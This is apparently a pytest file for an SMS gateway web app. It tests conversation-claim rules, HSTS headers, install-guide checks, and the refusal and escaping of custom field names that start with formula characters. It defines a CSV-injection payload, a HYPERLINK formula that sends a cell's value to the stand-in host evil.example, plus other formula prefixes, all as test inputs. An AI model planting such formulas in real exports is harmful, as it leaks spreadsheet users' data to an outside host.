"""Claims are respected by answers (finding 8); custom-field names follow one rule and cannot
smuggle a formula into the CSV export (finding 7); HSTS over HTTPS and the install guide's
first admin (finding 9)."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
from pathlib import Path

import yaml

from gateway.config import DemoConfig
from gateway.modem.pdu import encode_deliver
from gateway.web.app import create_app

from .conftest import ADMIN, AGENT, Web, csrf_token

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'


def waiting_conversation(web: Web) -> int:
    got = web.inbound.receive("a", encode_deliver("+15551230001", "Can you help?")[0])
    return int(web.store.messages.get(got.message_id)["profile_id"])


def answer(client, profile_id: int, text: str, **extra: object):
    return client.post(
        f"/api/profiles/{profile_id}/messages",
        json={"text": text, **extra},
        headers={"X-CSRFToken": csrf_token(client)},
    )


def agent_state(web: Web, profile_id: int) -> str:
    return web.store.db.value(
        "SELECT agent_state FROM messages WHERE profile_id = ? AND direction = 'in'",
        (profile_id,),
    )


def test_only_the_claimer_or_a_forcing_admin_answers_a_claimed_conversation(web: Web) -> None:
    pid = waiting_conversation(web)
    web.store.users.add("agent2", "agent2-password", role="agent")
    claimer, other, admin = web.client(AGENT), web.client(("agent2", "agent2-password")), None
    resp = claimer.post(
        f"/api/agent/profiles/{pid}/claim", headers={"X-CSRFToken": csrf_token(claimer)}
    )
    assert resp.status_code == 200
    resp = answer(other, pid, "I'll take this one")
    assert resp.status_code == 409 and resp.json["claimed_by"] == "agent"
    assert agent_state(web, pid) == "claimed"  # still the claimer's
    assert web.store.db.value("SELECT COUNT(*) FROM messages WHERE direction = 'out'") == 0
    assert answer(other, pid, "let me", force=True).status_code == 403  # agents cannot force
    admin = web.client(ADMIN)
    assert answer(admin, pid, "without forcing").status_code == 409
    assert answer(claimer, pid, "Sure, what do you need?").status_code == 201
    assert agent_state(web, pid) == "answered"
    # A new question, claimed again; an admin who forces may answer it.
    web.inbound.receive("a", encode_deliver("+15551230001", "And another thing?")[0])
    claimer.post(f"/api/agent/profiles/{pid}/claim", headers={"X-CSRFToken": csrf_token(claimer)})
    assert answer(admin, pid, "Taking over, sorry", force=True).status_code == 201
    assert (
        web.store.db.value(
            "SELECT COUNT(*) FROM messages WHERE profile_id = ? AND agent_state = 'answered'",
            (pid,),
        )
        == 2
    )


def profile_form(client, **custom: str):
    token = csrf_token(client, "/profiles/new")
    return client.post(
        "/profiles/new",
        data={
            "name": "Ann",
            "phone": "+15551230002",
            "status": "active",
            "subscribed": "yes",
            "custom_name": list(custom),
            "custom_value": list(custom.values()),
            "csrf_token": token,
        },
    )


def import_csv(client, text: str):
    token = csrf_token(client, "/profiles/import")
    return client.post(
        "/profiles/import",
        data={"file": (io.BytesIO(text.encode()), "people.csv"), "csrf_token": token},
        content_type="multipart/form-data",
    )


def test_a_field_name_that_is_a_formula_is_refused_by_form_and_import_alike(web: Web) -> None:
    client = web.client(AGENT)
    for name in (FORMULA, "+cmd", "-2+3", "@SUM(A1)"):
        resp = profile_form(client, **{name: "x"})
        assert resp.status_code == 400 and "formula" in resp.get_data(True), name
        header = '"' + name.replace('"', '""') + '"'
        resp = import_csv(client, f"phone,name,{header}\n+15551230003,Bo,x\n")
        assert "formula" in resp.get_data(True), name
    assert web.store.db.value("SELECT COUNT(*) FROM profiles") == 0
    # An ordinary name still works, in both.
    assert profile_form(client, **{"Member since": "2020"}).status_code == 302
    import_csv(client, "phone,name,Member since\n+15551230003,Bo,2021\n")
    assert web.store.db.value("SELECT COUNT(*) FROM profiles") == 2


def test_export_escapes_header_cells_too(web: Web) -> None:
    # A name stored before the rule existed (or by any other way in) is still written as text.
    web.store.profiles.add("+15551230004", "Cy", custom={FORMULA: "x", "@home": "y"})
    body = web.client(AGENT).get("/profiles/export.csv").get_data(True).lstrip("\ufeff")
    header = next(csv.reader(io.StringIO(body)))
    assert header[:4] == ["name", "phone", "status", "subscribed"]
    assert sorted(header[4:]) == sorted(["'" + FORMULA, "'@home"])
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in header)


def test_hsts_only_when_https_is_on(web: Web) -> None:
    assert "Strict-Transport-Security" not in web.app.test_client().get("/login").headers
    config = dataclasses.replace(
        web.config, web=dataclasses.replace(web.config.web, tls_cert=Path("/nonexistent.pem"))
    )
    services = dataclasses.replace(web.services, config=config)
    resp = create_app(services, TESTING=True).test_client().get("/login")
    assert resp.headers["Strict-Transport-Security"].startswith("max-age=")
    assert int(resp.headers["Strict-Transport-Security"].split("=")[1]) >= 86400 * 180


def test_install_guide_makes_an_admin_first_and_names_the_demo_password() -> None:
    guide = (ROOT / "docs" / "install.md").read_text(encoding="utf-8")
    first_add = re.search(r"gateway user add [^\n]*", guide)
    assert first_add and "--role admin" in first_add.group(0), first_add
    demo = yaml.safe_load((ROOT / "gateway" / "data" / "demo.yaml").read_text(encoding="utf-8"))
    password = demo["demo"]["admin_password"]
    assert password == DemoConfig().admin_password
    shown = re.search(r"log in as `admin` / `([^`]+)`", guide)
    assert shown and shown.group(1) == password
